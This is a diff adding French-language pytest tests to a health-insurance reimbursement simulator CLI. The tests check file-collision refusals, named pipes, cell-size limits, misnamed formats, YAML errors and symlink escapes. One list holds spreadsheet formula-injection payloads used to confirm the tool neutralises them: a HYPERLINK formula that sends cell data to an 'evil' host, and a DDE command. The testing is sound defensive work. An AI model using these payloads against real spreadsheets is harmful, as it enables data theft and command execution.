@@ -794,6 +794,153 @@ def test_sortie_egale_entree_refusee(tmp_path):
     assert f.read_bytes() == FAMILLE.read_bytes()
 
 
+def test_deux_sorties_d_une_commande_meme_fichier_refusees(tmp_path):
+    """`lot -o F --resume-sortie F` (or ./F, a link to F, a hard link to F): refused before computing, exit 2,
+    the previous F intact — never the totals written over the results."""
+    f = tmp_path / "r1.csv"
+    resume = ["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "--resume", "beneficiaire", "-s"]
+    lien, dur = tmp_path / "lien.csv", tmp_path / "dur.csv"
+    lien.symlink_to(f)                          # a link to a file that does not exist yet: resolved
+    for autre in (f, tmp_path / "." / "r1.csv", lien):
+        r = lancer(resume + ["-o", f, "--resume-sortie", autre])
+        assert r.exit_code == 2 and r.stderr == (f"erreur : {autre} : --sortie et --resume-sortie nomment le même fichier "
+                                                 "(l'un écraserait l'autre) ; donnez deux noms différents\n"), r.stderr
+        assert not f.exists()
+    f.write_text("précédent\n", encoding="utf-8")
+    os.link(f, dur)
+    for sortie in ("r1.json", "r1.csv"):
+        r = lancer(resume + ["-o", tmp_path / sortie, "--resume-sortie", dur if sortie == "r1.csv" else tmp_path / sortie])
+        assert r.exit_code == 2 and "--sortie et --resume-sortie nomment le même fichier" in r.stderr
+    assert f.read_text(encoding="utf-8") == "précédent\n"
+    r = lancer(resume + ["-o", f, "--resume-sortie", tmp_path / "totaux.csv"])     # two names: both written
+    assert r.exit_code == 0 and f.read_text(encoding="utf-8").startswith("beneficiaire,date,nature")
+    assert (tmp_path / "totaux.csv").read_text(encoding="utf-8").startswith("beneficiaire,actes,")
+
+
+@pytest.mark.parametrize("commande", [["lot", "-", "-c", "cabinets-dentaires", "-f", "option-2"],
+                                      ["verifier", "-", "-c", "cabinets-dentaires", "-f", "option-2"]])
+def test_entree_standard_redirigee_depuis_la_sortie_refusee(tmp_path, commande):
+    """`lot - -o in.csv < in.csv`: the standard input is the output file (fstat of descriptor 0): refused,
+    exit 2, the file intact. Another output name is written."""
+    source = RACINE / "exemples" / ("releves-famille-2025.csv" if commande[0] == "verifier" else "famille-2025.csv")
+    f = tmp_path / "in.csv"
+    f.write_bytes(source.read_bytes())
+    with open(f, "rb") as entree:
+        p = processus(commande + ["-o", f], stdin=entree)
+    assert p.returncode == 2 and p.stderr.decode() == (f"erreur : {f} : l'entrée standard (« - ») est ce fichier ; choisissez "
+                                                       "un autre nom (l'entrée serait écrasée)\n")
+    assert f.read_bytes() == source.read_bytes()
+    with open(f, "rb") as entree:
+        p = processus(commande + ["-o", tmp_path / "autre.csv", "-s"], stdin=entree)
+    assert p.returncode in (0, 1) and (tmp_path / "autre.csv").read_text(encoding="utf-8").startswith(("beneficiaire,", "beneficiaire;"))
+
+
+def test_graphique_sur_le_panier_refuse(tmp_path):
+    """`comparer --actes F --graphique F`: the chart would replace the basket; refused before anything (exit 2)."""
+    f = tmp_path / "panier.png"
+    f.write_bytes(FAMILLE.read_bytes())
+    r = lancer(["comparer", "cabinets-dentaires", "--actes", f, "--graphique", f])
+    assert r.exit_code == 2 and r.stderr == (f"erreur : --graphique {f} : la sortie est le fichier d'entrée ; choisissez un autre "
+                                             "nom (l'entrée serait écrasée)\n")
+    assert f.read_bytes() == FAMILLE.read_bytes()
+
+
+INJECTIONS = ['=HYPERLINK("http://evil/?"&A1;"clic")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SOMME(A1)", "\t=1"]
+
+
+def test_cellules_qui_commencent_comme_une_formule_restent_du_texte_xlsx(tmp_path):
+    """A cell that starts like a formula (`=`, `+`, `-`, `@`, tab, CR: a statement or a third party's file)
+    is written to the .xlsx outputs (results and --resume-sortie) as a text cell (openpyxl data type « s »),
+    its value unchanged — never a formula. The CSV output copies the cell as it is (documented)."""
+    openpyxl = pytest.importorskip("openpyxl")
+    texte = io.StringIO()
+    w = csv.writer(texte, lineterminator="\n", quoting=csv.QUOTE_ALL)
+    w.writerow(["beneficiaire", "date", "nature", "br", "frais_reels", "dptm", "=1+2"])
+    w.writerows([b, "2025-06-01", "consultation-specialiste", "31.50", "80", "oui", "@x"] for b in INJECTIONS)
+    f = tmp_path / "inject.csv"
+    f.write_text(texte.getvalue(), encoding="utf-8")
+    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-o", tmp_path / "r.xlsx", "--resume", "beneficiaire",
+                "--resume-sortie", tmp_path / "t.xlsx", "-s"])
+    assert r.exit_code == 0, r.stderr
+    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
+    entete = [c.value for c in ws[1]]
+    assert entete[6] == "=1+2" and ws.cell(1, 7).data_type == "s"
+    for i, valeur in enumerate(INJECTIONS, start=2):
+        assert (ws.cell(i, 1).value, ws.cell(i, 1).data_type) == (valeur, "s")
+        assert (ws.cell(i, 7).value, ws.cell(i, 7).data_type) == ("@x", "s")
+        # option 2, consultation de spécialiste DPTM BR 31,50 : SS 70 % × 31,50 − 2 € de PF = 20,05 € (a number)
+        assert ws.cell(i, entete.index("securite_sociale") + 1).value == 20.05
+    formules = [c.coordinate for ligne in ws.iter_rows() for c in ligne if c.data_type == "f"]
+    assert formules == []
+    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
+    benefs = {c.value: c.data_type for c in ws["A"][1:]}
+    assert benefs and all(t == "s" for t in benefs.values()) and "+1+1" in benefs
+    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-s"])
+    assert r.stdout.splitlines()[1].startswith('"=HYPERLINK(""http://evil/?""&A1;""clic"")","2025-06-01"')
+
+
+def _message_colonnes_de_resultat(f, colonnes: str) -> str:
+    return (f"erreur : {f} : colonne(s) {colonnes} déjà dans l'entrée : ce sont des noms de colonnes de résultat, que la "
+            "sortie ajoute (elle les aurait en double, l'ancienne valeur d'abord) ; indice : retirez ou renommez ces "
+            "colonnes (un fichier de résultats relu ?)\n")
+
+
+@pytest.mark.parametrize("sortie", ["r.csv", "r.json", "r.jsonl", "r.xlsx", "r.parquet"])
+@pytest.mark.parametrize("moteur", ["ligne", "colonnes"])
+def test_colonnes_d_entree_nommees_comme_le_resultat_refusees(tmp_path, sortie, moteur):
+    """An input column named as a result column (`reste_a_charge`, `Erreur`, `part_base`…) would be twice in
+    the output, the stale value first: refused before computing, whatever the format and the engine, exit 2,
+    nothing written."""
+    if (moteur == "ligne" and sortie.endswith("parquet")) or (moteur == "colonnes" and sortie.endswith(("json", "jsonl", "xlsx"))):
+        pytest.skip("combinaison refusée par le choix du moteur")
+    if sortie.endswith("xlsx"):
+        pytest.importorskip("openpyxl")
+    f = tmp_path / "outcol.csv"
+    f.write_text("beneficiaire,date,nature,br,frais_reels,dptm,Reste à charge,Erreur,part_base\n"
+                 "a,2025-06-01,consultation-specialiste,31.50,80,oui,999,bad,777\n", encoding="utf-8")
+    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-o", tmp_path / sortie, "--moteur", moteur])
+    assert r.exit_code == 2 and r.stderr == _message_colonnes_de_resultat(f, "Reste à charge, Erreur, part_base"), r.stderr
+    assert not (tmp_path / sortie).exists()
+
+
+def test_fichier_de_resultats_relu_refuse_lot_et_verifier(tmp_path):
+    """`lot` run on its own .csv output, `verifier` on its own output: refused (exit 2) naming the columns —
+    never an output with every result column twice."""
+    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "-o", tmp_path / "r.csv", "-s"])
+    assert r.exit_code == 0
+    r = lancer(["lot", tmp_path / "r.csv", "-c", "cabinets-dentaires", "-f", "option-2", "--format", "json"])
+    colonnes = "securite_sociale, participation_forfaitaire, part_base, part_option, total_rembourse, reste_a_charge"
+    assert r.exit_code == 2 and r.stderr == _message_colonnes_de_resultat(tmp_path / "r.csv", colonnes)
+    releves = RACINE / "exemples" / "releves-famille-2025.csv"
+    f = tmp_path / "releves.csv"
+    texte = releves.read_text(encoding="utf-8").splitlines()
+    f.write_text("\n".join([texte[0] + ";verdict"] + [l + ";conforme" for l in texte[1:]]) + "\n", encoding="utf-8")
+    r = lancer(["verifier", f, "-c", "cabinets-dentaires", "-f", "option-2", "--format", "csv"])
+    assert r.exit_code == 2 and r.stderr == _message_colonnes_de_resultat(f, "verdict")
+
+
+def test_indices_d_installation_pour_le_paquet_et_pour_les_sources(tmp_path, monkeypatch):
+    """Every « install this extra » hint gives the package's form and the source checkout's (the README's
+    install): `pip install 'simulateur[X]' (depuis les sources : pip install '.[X]')`, for tableur,
+    portefeuille and graphique — never only the form that would fetch a package from an index."""
+    from simulateur.lot import moteurs
+
+    def indice(extra):
+        return f"pip install 'simulateur[{extra}]' (depuis les sources : pip install '.[{extra}]')"
+    monkeypatch.setitem(sys.modules, "openpyxl", None)
+    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path / "r.xlsx"])
+    assert r.exit_code == 2 and r.stderr == (f"erreur : lire ou écrire un classeur .xlsx demande openpyxl : {indice('tableur')} "
+                                             "(ou enregistrez le fichier en « CSV UTF-8 »)\n")
+    monkeypatch.setattr(moteurs, "disponible", lambda module="polars": False)
+    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "base", "--moteur", "colonnes"])
+    assert r.exit_code == 2 and r.stderr == (f"erreur : le moteur colonnes demande polars, non installé(s) ; indice : "
+                                             f"{indice('portefeuille')} (sans eux : --moteur ligne et des fichiers CSV)\n")
+    monkeypatch.setitem(sys.modules, "matplotlib", None)
+    r = lancer(["comparer", "cabinets-dentaires", "-n", "biologie", "--br", "10", "--frais-reels", "10", "--date", "2025-06-01",
+                "--graphique", tmp_path / "g.png"])
+    assert r.exit_code == 2 and r.stderr == f"erreur : --graphique demande matplotlib, qui n'est pas installé : {indice('graphique')}\n"
+
+
 # ------------------------------------------------------------------ the kinds of fault, one test each (message, exit code)
 
 ACTE = ["simuler", "cabinets-dentaires", "-f", "option-2", "-n", "consultation-specialiste", "--br", "30", "--date", "2025-06-01",
@@ -1032,8 +1179,47 @@ def test_cellule_d_un_megaoctet(tmp_path):
     texte = f'beneficiaire,date,nature,br,frais_reels\na,2025-01-10,biologie,10,10\nb,2025-01-10,biologie,10,"{"9" * 1_000_001}"\n'
     r = lancer(["lot", "-", "-c", "cabinets-dentaires", "-f", "base"], entree=texte)
     assert r.exit_code == 2
-    assert r.stderr == ("erreur : - : ligne 3 illisible en CSV (cellule de plus de 1000000 caractères) ; indice : vérifiez les "
-                        "guillemets de cette ligne (un guillemet ouvert doit être fermé)\n")
+    assert r.stderr == ("erreur : - : ligne 3 illisible en CSV (cellule de plus de 1 000 000 caractères) ; indice : une cellule "
+                        "fait au plus 1 000 000 caractères ; vérifiez les guillemets de cette ligne (un guillemet ouvert et "
+                        "jamais fermé fait une cellule sans fin)\n")
+
+
+@pytest.mark.parametrize("commande", ["lot", "verifier", "comparer"])
+def test_cellule_au_dela_de_la_limite_sans_guillemets(tmp_path, commande):
+    """The limit is 1 000 000 characters for any cell (csv's own 131 072 is raised to it): a header cell of
+    300 000 characters is read (an unknown column, echoed); one over 1 000 000 stops the file, exit 2, naming
+    line 1 — never « erreur interne ». A data cell over the limit without quotes is its row's error (naming
+    the column), the other rows computed: option 2, consultation de spécialiste DPTM BR 31,50 / FR 80 → SS
+    70 % × 31,50 − 2 = 20,05 €, reste à charge 3,25 € (docs/calcul.md, exemple du README)."""
+    def fichier(nom, entete_en_plus, ben):
+        f = tmp_path / nom
+        colonnes = ["beneficiaire", "date", "nature", "br", "frais_reels", "dptm"] + (["ss_verse", "complementaire_verse"]
+                                                                                    if commande == "verifier" else [])
+        fin = ",20.05,56.70" if commande == "verifier" else ""
+        f.write_text(",".join(colonnes) + entete_en_plus + "\n" + f"{ben},2025-06-01,consultation-specialiste,31.50,80,oui{fin}"
+                     + ("," if entete_en_plus else "") + f"\na,2025-06-01,consultation-specialiste,31.50,80,oui{fin}"
+                     + ("," if entete_en_plus else "") + "\n", encoding="utf-8")
+        return f
+    args = {"lot": ["-c", "cabinets-dentaires", "-f", "option-2", "--moteur", "ligne", "--format", "json", "-s"],
+            "verifier": ["-c", "cabinets-dentaires", "-f", "option-2", "--format", "json", "-s"]}.get(commande)
+    avant = ["comparer", "cabinets-dentaires", "--formules", "option-2", "--format", "json", "--actes"] if commande == "comparer" \
+        else [commande]
+    f = fichier("grand-entete.csv", "," + "h" * 1_000_001, "b")
+    r = lancer(avant + [f] + (args or []))
+    assert r.exit_code == 2 and r.stderr == (f"erreur : {f} : ligne 1 (l'en-tête) illisible en CSV (cellule de plus de 1 000 000 "
+                                             "caractères) ; indice : la première ligne nomme les colonnes (beneficiaire, nature, "
+                                             "date, br, frais_reels), séparées par , ou ;\n"), r.stderr
+    f = fichier("long.csv", "," + "h" * 300_000, "b" * 1_000_001)
+    r = lancer(avant + [f] + (args or []))
+    assert r.exit_code == 1, r.stderr
+    message = "ligne 2 : cellule de la colonne beneficiaire trop longue (1 000 001 caractères ; 1 000 000 au plus)"
+    d = json.loads(r.stdout)
+    if commande == "comparer":
+        assert d[0]["erreurs"] == [{"ligne": 2, "erreur": message.removeprefix("ligne 2 : ")}]
+        assert (d[0]["actes"], d[0]["securite_sociale"], d[0]["reste_a_charge"]) == (1, "20.05", "3.25")
+    else:
+        assert [x["erreur"] for x in d] == [message, None] and d[1]["securite_sociale"] == "20.05"
+        assert d[1]["reste_a_charge"] == "3.25"
 
 
 # ------------------------------------------------------------------ files: every kind read, or refused with the exact hint
@@ -1095,6 +1281,74 @@ def test_fichiers_refuses_avec_l_indice(tmp_path, donnees, message):
         list(lire_actes(f))
 
 
+def _zip(noms) -> bytes:
+    import zipfile
+    b = io.BytesIO()
+    with zipfile.ZipFile(b, "w") as z:
+        for n in noms:
+            z.writestr(n, "x")
+    return b.getvalue()
+
+
+INDICE_CLASSEUR = "indice : ouvrez-le dans un tableur et enregistrez-le en .xlsx, ou en « CSV UTF-8 »"
+INDICE_UTF32 = ("texte en UTF-32, un encodage non pris en charge (UTF-8, UTF-16 avec BOM ou Windows-1252) ; indice : enregistrez "
+                "le fichier en « CSV UTF-8 »")
+
+
+@pytest.mark.parametrize("nom, donnees, message", [
+    ("faux.parquet", b"bonjour\n", "pas un fichier Parquet (il ne commence ni ne finit par la signature PAR1) ; indice : donnez un "
+                                   "fichier .parquet complet, ou un CSV"),
+    ("csv.parquet", LIGNES_U8.encode("utf-8"), "texte (un CSV ?), pas un fichier Parquet ; indice : nommez-le .csv"),
+    ("coupe.parquet", b"PAR1" + b"\x00" * 40, "fichier Parquet incomplet (sa fin manque : une copie ou un téléchargement "
+                                              "interrompu ?) ; indice : donnez un fichier .parquet complet, ou un CSV"),
+    ("classeur.parquet", _zip(["xl/workbook.xml"]), "classeur (.xlsx ou .xls), pas un fichier Parquet ; indice : nommez-le .xlsx"),
+    ("archive.xlsx", _zip(["a.txt"]), "ce n'est pas un classeur .xlsx : c'est une archive .zip (aucune feuille Excel dedans) ; "
+                                      + INDICE_CLASSEUR),
+    ("calc.xlsx", _zip(["mimetype", "content.xml"]), "ce n'est pas un classeur .xlsx : c'est un document OpenDocument (.ods, .odt) "
+                                                     "(aucune feuille Excel dedans) ; " + INDICE_CLASSEUR),
+    ("vieux.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
+     "classeur Excel 97-2003 (.xls) ou classeur protégé par un mot de passe : non lu ; indice : ouvrez-le dans un tableur et "
+     "enregistrez-le en .xlsx (sans mot de passe) ou en « CSV UTF-8 »"),
+    ("u32.csv", LIGNES_U8.encode("utf-32"), INDICE_UTF32),
+    ("u32le.csv", LIGNES_U8.encode("utf-32-le"), INDICE_UTF32),
+    ("u32be.csv", LIGNES_U8.encode("utf-32-be"), INDICE_UTF32),
+], ids=["faux-parquet", "csv-en-parquet", "parquet-coupe", "classeur-en-parquet", "zip-en-xlsx", "ods-en-xlsx", "xls-en-xlsx",
+        "utf-32", "utf-32-le", "utf-32-be"])
+def test_fichier_qui_n_est_pas_ce_que_dit_son_nom(tmp_path, nom, donnees, message):
+    """A file named .parquet that is not Parquet, a zip or an .ods named .xlsx, an .xls, UTF-32 text: a French
+    message saying what the file is not (or is) and what to do, exit 2 — never the library's English
+    (« parquet: File out of specification… », « classeur illisible (KeyError) ») nor garbage column names."""
+    if nom.endswith(".xlsx"):
+        pytest.importorskip("openpyxl")
+    if nom.endswith(".parquet"):
+        pytest.importorskip("polars")
+    f = tmp_path / nom
+    f.write_bytes(donnees)
+    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path / "s.csv"])
+    assert r.exit_code == 2 and r.stderr == f"erreur : {f} : {message}\n", r.stderr
+    assert not (tmp_path / "s.csv").exists()
+    if nom.endswith(".csv"):
+        r = lancer(["comparer", "cabinets-dentaires", "--actes", f])
+        assert r.exit_code == 2 and r.stderr == f"erreur : {f} : {message}\n"
+
+
+@pytest.mark.parametrize("texte, message", [
+    ("contrat:\n\tid: x\n", "tabulation dans l'indentation"),
+    ("a: " + "[" * 2000 + "]" * 2000 + "\n", "imbrication trop profonde (listes ou blocs imbriqués sur des centaines de niveaux)"),
+    ("a: b\n---\nc: d\n", "un seul document attendu, or le fichier en contient plusieurs (« --- »)"),
+    ("%YAML 1.1\n%YAML 1.1\n---\na: 1\n", "directive %YAML en double"),
+    ("a: !<x y\n", "balise « !<… » non fermée"),
+], ids=["tabulation", "imbrication", "deux-documents", "directive-double", "balise"])
+def test_syntaxe_yaml_en_francais(tmp_path, texte, message):
+    """libyaml's English never reaches the user: its messages are said in French (an unknown one is « erreur de
+    syntaxe »), with the line and column."""
+    f = tmp_path / "contrat.yaml"
+    f.write_text(texte, encoding="utf-8")
+    r = lancer(["valider", f])
+    assert r.exit_code == 2 and f"erreur : syntaxe YAML invalide : {message}\n" in r.stdout, r.stdout
+    assert not re.search(r"found |exceeded|expected |did not|but found|while scanning", r.stdout)
+
+
 @pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="/dev/zero absent (pas Linux)")
 def test_peripheriques_sans_fin_jamais_lus_en_entier():
     """`/dev/zero` and `/dev/urandom` as batch, basket, contract or examples: refused at once (binary,
@@ -1107,6 +1361,58 @@ def test_peripheriques_sans_fin_jamais_lus_en_entier():
         r = lancer(args)
         assert r.exit_code == code and ("erreur" in r.stderr or "illisible" in r.stdout), (args, r.stderr, r.stdout)
     assert time.monotonic() - debut < 30
+
+
+def _tube(tmp_path, nom: str, donnees: bytes) -> Path:
+    """A named pipe that gives `donnees` once (a writer thread), like `<(cat fichier)`: a second opening
+    would find no writer and read nothing (or block) — the fault this guards against."""
+    import threading
+    f = tmp_path / nom
+    os.mkfifo(f)
+
+    def ecrire():
+        with open(f, "wb") as w:
+            w.write(donnees)
+    threading.Thread(target=ecrire, daemon=True).start()
+    return f
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pas de tubes nommés")
+@pytest.mark.parametrize("moteur", ["auto", "ligne", "colonnes"])
+def test_tube_nomme_lu_une_seule_fois_lot(tmp_path, moteur):
+    """`lot <(cat famille-2025.csv)`: the pipe is read once, into memory, and computed as the file itself
+    (the same output, byte for byte); before, a first look at its 4 first bytes left the reader an empty file."""
+    attendu = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "-s"])
+    tube = _tube(tmp_path, "actes.csv", FAMILLE.read_bytes())
+    r = lancer(["lot", tube, "-c", "cabinets-dentaires", "-f", "option-2", "-s", "--moteur", moteur])
+    assert r.exit_code == attendu.exit_code == 0, r.stderr
+    assert r.stdout == attendu.stdout and r.stdout.count("\n") == FAMILLE.read_text(encoding="utf-8").count("\n")
+    tube = _tube(tmp_path, "portefeuille.parquet", b"PAR1")
+    r = lancer(["lot", tube, "-c", "cabinets-dentaires", "-f", "option-2"])
+    assert r.exit_code == 2 and "un fichier Parquet se lit par accès direct, pas dans un tube" in r.stderr
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pas de tubes nommés")
+def test_tube_nomme_lu_une_seule_fois_verifier_simuler_valider(tmp_path):
+    """`verifier`, `comparer --actes`, `simuler` and `valider` given a pipe: read once, the same answers as the
+    file. Option 2, consultation de spécialiste DPTM BR 31,50 / FR 80: SS 70 % × 31,50 − 2 = 20,05 €."""
+    releves = RACINE / "exemples" / "releves-famille-2025.csv"
+    args = ["-c", "cabinets-dentaires", "-f", "option-2", "-s", "--format", "csv"]
+    attendu = lancer(["verifier", releves] + args)
+    r = lancer(["verifier", _tube(tmp_path, "releves.csv", releves.read_bytes())] + args)
+    assert (r.exit_code, r.stdout) == (attendu.exit_code, attendu.stdout) and r.stdout.count("\n") > 5
+    attendu = lancer(["comparer", "cabinets-dentaires", "--actes", FAMILLE, "--format", "csv"])
+    r = lancer(["comparer", "cabinets-dentaires", "--actes", _tube(tmp_path, "panier.csv", FAMILLE.read_bytes()), "--format", "csv"])
+    assert (r.exit_code, r.stdout) == (attendu.exit_code, attendu.stdout)
+    contrat = (RACINE / "contrats" / "cabinets-dentaires.yaml").read_bytes()
+    r = lancer(["simuler", _tube(tmp_path, "contrat", contrat), "-f", "option-2", "-n", "consultation-specialiste", "--br", "31,50",
+                "--frais-reels", "80", "--dptm", "--date", "2025-06-01", "--format", "json"])
+    assert r.exit_code == 0, r.stderr
+    assert json.loads(r.stdout)["securite_sociale"] == "20.05"
+    r = lancer(["valider", _tube(tmp_path, "contrat-2", contrat), "--format", "json"])
+    assert r.exit_code == 0 and json.loads(r.stdout)["fichiers"][0]["contrat"] == "cabinets-dentaires"
+    r = lancer(["simuler", tmp_path, "-f", "x", "-n", "biologie", "--frais-reels", "1"])
+    assert r.exit_code == 2 and r.stderr == f"erreur : {tmp_path} : c'est un dossier, pas un fichier de contrat (.yaml)\n"
 
 
 def test_dossier_et_fichier_introuvable(tmp_path):
@@ -1250,6 +1556,37 @@ def test_contrat_par_ligne_seulement_livre_ou_dossier_donne(tmp_path):
     assert (d[1]["contrat"], d[1]["parts"][0]["montant"], d[1]["reste_a_charge"]) == ("temoin-valide", "4.00", "2.00")
     r = lancer(["lot", f, "-f", "base", "--format", "json", "-s"])          # without the folder: only the shipped one
     assert [x["erreur"] is None for x in json.loads(r.stdout)] == [True, False, False, False, False]
+
+
+def test_contrats_dossier_nomme_par_son_identifiant(tmp_path, monkeypatch):
+    """`--contrats-dossier DOSSIER`: a `contrat` cell `maison` (or `maison.yaml`) is `DOSSIER/maison.yaml`, whatever
+    the current folder; a link `DOSSIER/lien.yaml` that leads outside stays refused and unread; a folder that
+    does not exist, or a file given as folder, is exit 2 before anything. Témoin, formula base, biologie
+    BR = FR = 10: SS 60 % × 10 − PF 2 = 4, base 100 % BR − SS brute 6 = 4, reste à charge 2."""
+    dedans = tmp_path / "contrats"
+    dedans.mkdir()
+    (dedans / "maison.yaml").write_text(TEMOIN.read_text(encoding="utf-8"), encoding="utf-8")
+    dehors = tmp_path / "secret.yaml"
+    dehors.write_text("contrat: {id: secret-defense}\n", encoding="utf-8")
+    (dedans / "lien.yaml").symlink_to(dehors)
+    f = tmp_path / "actes.csv"
+    f.write_text("beneficiaire,date,nature,br,frais_reels,contrat\n" + "".join(f"a,2025-01-10,biologie,10,10,{c}\n" for c in
+                                                                                  ("maison", "maison.yaml", "lien", "absent")),
+                 encoding="utf-8")
+    ailleurs = tmp_path / "ailleurs"
+    ailleurs.mkdir()
+    monkeypatch.chdir(ailleurs)
+    for moteur in ("ligne", "colonnes"):
+        r = lancer(["lot", f, "-f", "base", "--contrats-dossier", dedans, "--format", "csv", "--moteur", moteur, "-s"])
+        _entete, lignes = _sortie_csv(r.stdout, ",")
+        assert r.exit_code == 1
+        assert [(l[0], l[6], l[8], l[11], l[12]) for l in lignes[:2]] == [("a", "4.00", "4.00", "2.00", "")] * 2
+        assert "une ligne ne peut nommer qu'un contrat livré" in lignes[2][12] and "secret" not in lignes[2][12]
+        assert lignes[3][12].startswith("ligne 5 : contrat inconnu « absent »")
+    for dossier, quoi in ((tmp_path / "inexistant", "dossier introuvable"), (f, "n'est pas un dossier")):
+        r = lancer(["lot", f, "-f", "base", "--contrats-dossier", dossier])
+        assert r.exit_code == 2 and r.stderr == (f"erreur : --contrats-dossier {dossier} : {quoi} ; indice : donnez le chemin "
+                                                 "d'un dossier qui contient les contrats (.yaml) que la colonne contrat nomme\n")
 
 
 # ------------------------------------------------------------------ the cache of parsed files: data only, ours only, keyed on content
